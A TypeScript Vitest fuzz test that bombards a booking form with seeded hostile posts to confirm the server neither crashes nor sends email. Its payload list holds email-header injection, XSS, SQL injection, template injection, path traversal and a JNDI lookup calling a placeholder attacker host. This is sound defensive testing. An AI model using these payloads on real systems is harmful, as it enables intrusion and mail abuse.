// A seeded storm of hostile booking posts against the production build: none may crash the server (no 5xx) or get
// an email sent, and the server must still take a real booking afterwards. Every post either fills the honeypot or
// carries a render time a person could not have, so that even a post that happens to be valid sends nothing.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { openStore } from "@/lib/store";
import { openBookingPage, postBooking, receivedReference, VALID_BOOKING, type BookingPage } from "../support/booking-http";
import { newDatabasePath, startSite, type RunningSite } from "../support/site";
import { startSmtpServer, type TestSmtpServer } from "../support/smtp";

const REQUESTS = 1200;
const SEED = 20261125;

/** mulberry32: small, fast and the same on every machine. */
function generator(seed: number) {
  let state = seed >>> 0;
  const next = () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
  const int = (n: number) => Math.floor(next() * n);
  const pick = <T,>(items: readonly T[]): T => items[int(items.length)];
  return { next, int, pick, chance: (p: number) => next() < p };
}
type Random = ReturnType<typeof generator>;

const HOSTILE = [
  "",
  " ",
  "\u0000",
  "a\u0000b",
  "\u0007\u0008\u001b[31m",
  "Evil\r\nBcc: victim@evil.test",
  "x@example.test\r\nSubject: hi",
  "\r\n.\r\nMAIL FROM:<a@b.c>\r\n",
  "<script>alert(1)</script>",
  '"><img src=x onerror=alert(1)>',
  "javascript:alert(1)",
  "\u202Egnp.exe",
  "\u2066Asha\u2069",
  "Z\u0351\u0352\u0353a\u0354\u0355l\u0356g\u0357o",
  "\uFEFF",
  "\uD800",
  "👩🏽‍⚕️".repeat(30),
  "مريم أحمد",
  "Ａｓｈａ",
  "+91 ９８７６５ ４３２１０",
  "+91 98765 43210 ext 5",
  "٩٨٧٦٥٤٣٢١٠",
  "0091-98765-43210-0",
  "9876543210\n9876543210",
  "аsha@exаmple.test",
  "asha@example.test,bob@example.test",
  "asha@@example.test",
  "asha@example.test>",
  "<asha@example.test>",
  '"Asha"@example.test',
  "2026-02-30",
  "9999-12-31",
  "-1",
  "NaN",
  "1e400",
  "tele\u0000",
  "VIDEO",
  "__proto__",
  "constructor",
  "toString",
  "yes ",
  "true",
  "%0d%0aBcc:x@evil.test",
  "${jndi:ldap://evil.test/a}",
  "{{7*7}}",
  "' OR 1=1 --",
  "x".repeat(1001),
  "y".repeat(20_000),
];

const FIELDS = [...Object.keys(VALID_BOOKING), "preferredDate"];

function hostileValue(random: Random): string | Blob {
  const roll = random.next();
  if (roll < 0.08) return new Blob([random.pick(HOSTILE)], { type: random.pick(["text/plain", "application/x-msdownload", "image/svg+xml"]) });
  if (roll < 0.1) return random.pick(HOSTILE) + random.pick(HOSTILE);
  if (roll < 0.12) return String.fromCharCode(...Array.from({ length: 1 + random.int(40) }, () => random.int(0x3000)));
  return random.pick(HOSTILE);
}

/** A render time a person could not have: now, the future, missing, or nonsense. */
function botRenderedAt(random: Random): string | undefined {
  return random.pick([undefined, String(Date.now()), String(Date.now() + 86_400_000), "0", "-5", "soon", "\r\n", "1e400"]);
}

/** A multipart post of the form with some fields hostile, missing, repeated or added. */
async function mutatedForm(siteUrl: string, page: BookingPage, random: Random) {
  const fields: Record<string, string | Blob | undefined> = {};
  for (const field of FIELDS) {
    const roll = random.next();
    if (roll < 0.15) fields[field] = undefined;
    else if (roll < 0.55) fields[field] = hostileValue(random);
  }
  const hidden = { ...page.hidden };
  if (random.chance(0.15)) {
    // A garbage or mangled action id, or the action fields missing altogether.
    for (const name of Object.keys(hidden)) if (name.startsWith("$ACTION")) delete hidden[name];
    if (random.chance(0.7)) hidden[random.pick(["$ACTION_ID_", "$ACTION_ID_deadbeef", "$ACTION_REF_1", "$ACTION_1:0"])] = random.pick(HOSTILE);
  }
  if (random.chance(0.2)) fields[random.pick(["admin", "__proto__", "constructor", "fullName[]", "to", "bcc"])] = hostileValue(random);
  if (random.chance(0.5)) fields.website = random.pick(["https://spam.example", "x", "<b>"]);
  else fields.renderedAt = botRenderedAt(random);
  if (!("website" in fields) && fields.renderedAt === undefined) fields.renderedAt = String(Date.now());
  if (random.chance(0.02)) fields.reason = "r".repeat(1024 * 1024);
  return postBooking(siteUrl, { hidden }, fields);
}

/** Bodies that are not a well-formed form at all. */
async function brokenBody(siteUrl: string, page: BookingPage, random: Random) {
  const actionField = Object.keys(page.hidden).find((name) => name.startsWith("$ACTION")) ?? "$ACTION_ID_x";
  const boundary = "----fuzz" + random.int(1e9);
  const bodies: Array<[string, string]> = [
    [`multipart/form-data; boundary=${boundary}`, `--${boundary}\r\nContent-Disposition: form-data; name="${actionField}"\r\n\r\n`],
    [`multipart/form-data; boundary=${boundary}`, `--${boundary}\r\nContent-Disposition: form-data; name="fullName"\r\n\r\nAsha`],
    ["multipart/form-data", `--x\r\nContent-Disposition: form-data; name="fullName"\r\n\r\nAsha\r\n--x--`],
    [`multipart/form-data; boundary=${boundary}`, "\u0000".repeat(random.int(500))],
    [`multipart/form-data; boundary=${boundary}`, `--${boundary}\r\nContent-Disposition: form-data; name="${"n".repeat(5000)}"\r\n\r\nv\r\n--${boundary}--\r\n`],
    ["application/x-www-form-urlencoded", new URLSearchParams({ fullName: random.pick(HOSTILE), [actionField]: "" }).toString()],
    ["application/json", JSON.stringify({ fullName: random.pick(HOSTILE), [actionField]: "" })],
    ["text/plain", random.pick(HOSTILE)],
    ["text/x-component", "[\"$K1\"]"],
  ];
  const [contentType, body] = random.pick(bodies);
  const headers: Record<string, string> = { "Content-Type": contentType, Origin: siteUrl };
  if (random.chance(0.4)) headers["Next-Action"] = random.pick(["0".repeat(42), "x", "../../etc/passwd", ""]);
  const response = await fetch(`${siteUrl}/book`, { method: "POST", body, headers, redirect: "manual" });
  return { status: response.status, html: await response.text() };
}

let smtp: TestSmtpServer;
let site: RunningSite;
const database = newDatabasePath();

beforeAll(async () => {
  smtp = await startSmtpServer();
  site = await startSite({ SMTP_URL: smtp.url, BOOKING_LIMIT: "off", DATABASE_PATH: database });
});

afterAll(async () => {
  await site?.stop();
  await smtp?.close();
});

describe("a storm of hostile booking posts", () => {
  it(`crashes nothing and sends nothing over ${REQUESTS} requests, and a patron can still book afterwards`, async () => {
    const random = generator(SEED);
    const page = await openBookingPage(site.url);
    const failures: string[] = [];
    const statuses = new Map<number, number>();

    for (let sent = 0; sent < REQUESTS; sent += 10) {
      await Promise.all(
        Array.from({ length: 10 }, async (_, i) => {
          const attempt = sent + i;
          const { status } = random.chance(0.8)
            ? await mutatedForm(site.url, page, random)
            : await brokenBody(site.url, page, random);
          statuses.set(status, (statuses.get(status) ?? 0) + 1);
          if (status >= 500) failures.push(`request ${attempt} answered ${status}`);
        }),
      );
    }

    expect(failures).toEqual([]);
    expect([...statuses.values()].reduce((a, b) => a + b, 0)).toBe(REQUESTS);
    await new Promise((resolve) => setTimeout(resolve, 1000));
    expect(smtp.messages).toHaveLength(0);
    const { store } = await openStore({ engine: "sqlite", path: database });
    try {
      // Nothing but the day's agenda, which the site writes on an open day's daytime whatever it is sent.
      const emails = await store.listEmails(["pending", "sent", "undeliverable"]);
      expect(emails.filter((email) => email.kind !== "clinic-agenda")).toHaveLength(0);
    } finally {
      await store.close();
    }

    const fresh = await openBookingPage(site.url);
    const response = await postBooking(site.url, fresh, { renderedAt: String(Date.now() - 60_000) });
    const reference = receivedReference(response.html);
    expect(reference).toBeDefined();
    await smtp.waitForMessage((m) => m.subject?.includes(reference!) ?? false);
  });
});
